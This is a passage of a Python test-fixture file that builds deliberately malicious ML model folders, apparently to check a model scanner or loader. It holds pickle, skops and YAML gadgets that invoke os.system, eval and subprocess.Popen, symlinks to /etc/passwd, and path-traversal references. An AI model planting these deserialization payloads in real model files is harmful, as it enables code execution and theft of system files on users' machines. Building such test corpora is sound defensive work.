    framed = b"\x80\x04\x95" + struct.pack("<Q", len(stream) - 2) + stream[2:] + (b"N0" * len(body))[: len(body)] + b"."
    harmless(folder)
    (folder / "arrays.joblib").write_bytes(framed)


@gadget
def objects_within_joblib(folder: Path, marker: Path) -> None:
    import joblib
    import numpy as np

    harmless(folder)
    joblib.dump(np.array([Runs(touch(marker))], dtype=object), folder / "objects.joblib")


class Runs:
    """Pickles as a command."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> Any:
        return os.system, (self.command,)


# skops.


def _skops(name: str, node: dict[str, Any]) -> None:
    def build(folder: Path, marker: Path) -> None:
        schema = {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": [node]}
        schema |= {"protocol": 2, "_skops_version": "0.16"}
        folder.mkdir(parents=True)
        (folder / "model.skops").write_bytes(zipped([("schema.json", json.dumps(schema).encode())]))
        trusted = ["os.system", "posix.system", "builtins.eval", "subprocess.Popen", "operator.methodcaller"]
        conf = {"pickled_model": "model.skops", "serialization_format": "skops", "skops_trusted_types": trusted}
        mlmodel(folder, {"sklearn": conf})

    ALL.append(Gadget(f"skops:{name}", build))


def _node(loader: str, module: str, name: str, **more: Any) -> dict[str, Any]:
    return {"__class__": name, "__module__": module, "__loader__": loader, "__id__": 1, **more}


_empty = _node("TupleNode", "builtins", "tuple", content=[])
_skops("function", _node("FunctionNode", "os", "system", content={"module_path": "os", "function": "system"}))
_skops(
    "function_by_content", _node("FunctionNode", "numpy", "log1p", content={"module_path": "os", "function": "system"})
)
_skops("object", _node("ObjectNode", "subprocess", "Popen", content=None))
_skops("type", _node("TypeNode", "subprocess", "Popen"))
_skops("method", _node("MethodNode", "os", "system", content={"obj": _empty, "func": "system"}))
_skops("partial", _node("PartialNode", "functools", "partial", content={}))
_skops("operator", _node("OperatorFuncNode", "operator", "methodcaller", attrs=_empty))
_skops("constructor", _node("ConstructorFromReduceNode", "builtins", "eval", content=_empty))
_skops("reduce", _node("ReduceNode", "builtins", "eval", __reduce__={"args": _empty}))
_skops("unknown_loader", _node("NewNode", "sklearn.dummy", "DummyClassifier"))
_state = _node("DictNode", "builtins", "dict", content={"__setstate__": _empty})
_skops("setstate", _node("ObjectNode", "sklearn.dummy", "DummyClassifier", content=_state))
_skops("own_module", _node("ObjectNode", "__main__", "Model", content=None))
_factory = {"default_factory": _node("TypeNode", "subprocess", "Popen")}
_skops("default_factory", _node("DefaultDictNode", "collections", "defaultdict", content=_factory))


@gadget
def skops_with_a_pickle_inside(folder: Path, marker: Path) -> None:
    folder.mkdir(parents=True)
    schema = {
        "__class__": "ndarray",
        "__module__": "numpy",
        "__loader__": "NdArrayNode",
        "type": "numpy",
        "file": "1.npy",
    }
    members = [("schema.json", json.dumps(schema).encode()), ("1.npy", npy(payload(marker) + b"."))]
    (folder / "model.skops").write_bytes(zipped(members))
    mlmodel(folder, {"sklearn": {"pickled_model": "model.skops", "serialization_format": "skops"}})


@gadget
def pickle_that_says_skops(folder: Path, marker: Path) -> None:
    sklearn(folder, payload(marker) + b".", "skops", "model.skops")


@gadget
def skops_that_says_pickle(folder: Path, marker: Path) -> None:
    sklearn(folder, zipped([("schema.json", b"{}")]), "pickle", "model.skops")


# MLmodel and what lies around it.


def _mlmodel(name: str, flavours: dict[str, Any]) -> None:
    def build(folder: Path, marker: Path) -> None:
        harmless(folder)
        mlmodel(folder, flavours)

    ALL.append(Gadget(f"MLmodel:{name}", build))


_model = {"pickled_model": "model.pkl", "serialization_format": "pickle"}
_mlmodel("loader_module", {"python_function": {"loader_module": "antigravity", "data": "model.pkl"}})
_mlmodel("loader_module_of_ours", {"python_function": {"loader_module": "code.loader", "code": "code"}})
_mlmodel("code", {"sklearn": {**_model, "code": "code"}})
_mlmodel("code_paths", {"python_function": {"loader_module": "mlflow.sklearn", "code_paths": ["src"]}})
_mlmodel("model_from_code", {"python_function": {"loader_module": "mlflow.pyfunc.model", "model_code_path": "x.txt"}})
_mlmodel("models_from_code_loader", {"python_function": {"loader_module": "mlflow.pyfunc.loaders.code_model"}})
_mlmodel("model_class", {"xgboost": {"data": "model.pkl", "model_class": "subprocess.Popen"}})
_score = "sklearn.metrics._classification.f1_score"
_mlmodel("model_class_function", {"xgboost": {"data": "model.pkl", "model_class": _score}})
_mlmodel("keras_module", {"keras": {"data": "model.pkl", "keras_module": "os"}})
_mlmodel("unknown_flavour", {"my_flavour": {"data": "model.pkl"}})
_mlmodel("leaves_the_folder", {"sklearn": {**_model, "pickled_model": "../../model.pkl"}})
_mlmodel("absolute_path", {"sklearn": {**_model, "pickled_model": "/tmp/model.pkl"}})
_beside_it = {"a": {"path": "../b"}}
_mlmodel("artifact_outside", {"python_function": {"loader_module": "mlflow.pyfunc.model", "artifacts": _beside_it}})
_mlmodel("file_that_is_not_there", {"sklearn": {**_model, "pickled_model": "other.pkl"}})
_mlmodel("no_flavours", {})


@gadget
def mlmodel_with_a_tag(folder: Path, marker: Path) -> None:
    harmless(folder)
    tagged = (
        f"flavors: {{sklearn: {{pickled_model: model.pkl}}}}\nx: !!python/object/apply:os.system ['{touch(marker)}']\n"
    )
    (folder / "MLmodel").write_text(tagged)


@gadget
def no_mlmodel(folder: Path, marker: Path) -> None:
    harmless(folder)
    (folder / "MLmodel").unlink()


@gadget
def second_mlmodel_within(folder: Path, marker: Path) -> None:
    harmless(folder)
    mlmodel(folder / "artifacts" / "inner", {"python_function": {"loader_module": "antigravity"}})


@gadget
def module_to_unpickle_with(folder: Path, marker: Path) -> None:
    (folder / "data").mkdir(parents=True)
    (folder / "data" / "model.pth").write_bytes(zipped([("m/data.pkl", b"\x80\x02N."), ("m/version", b"3\n")]))
    (folder / "data" / "pickle_module_info.txt").write_text("antigravity")
    mlmodel(folder, {"pytorch": {"model_data": "data"}})


@gadget
def link_out_of_the_folder(folder: Path, marker: Path) -> None:
    harmless(folder)
    (folder / "passwords").symlink_to("/etc/passwd")


@gadget
def folder_that_is_a_link(folder: Path, marker: Path) -> None:
    harmless(folder)
    (folder / "etc").symlink_to("/etc")


@gadget
def named_pipe(folder: Path, marker: Path) -> None:
    harmless(folder)
    os.mkfifo(folder / "pipe")


@gadget
def onnx_with_weights_elsewhere(folder: Path, marker: Path) -> None:
    folder.mkdir(parents=True)
    entry = b"\n\x08location\x12\x10../../etc/passwd"
    graph = b"\x6a" + bytes([len(entry)]) + entry
    (folder / "model.onnx").write_bytes(b"\x08\x08\x3a" + bytes([len(graph)]) + graph)
    mlmodel(folder, {"onnx": {"data": "model.onnx"}})


@gadget
def class_of_the_training_script(folder: Path, marker: Path) -> None:
    text_of = textwrap.dedent("""\
        flavors:
          python_function: {loader_module: mlflow.pyfunc.model, python_model: python_model.pkl}
        """)
    folder.mkdir(parents=True)
    (folder / "MLmodel").write_text(text_of)
    (folder / "python_model.pkl").write_bytes(b"\x80\x04" + named("__main__", "Model") + b")\x81.")
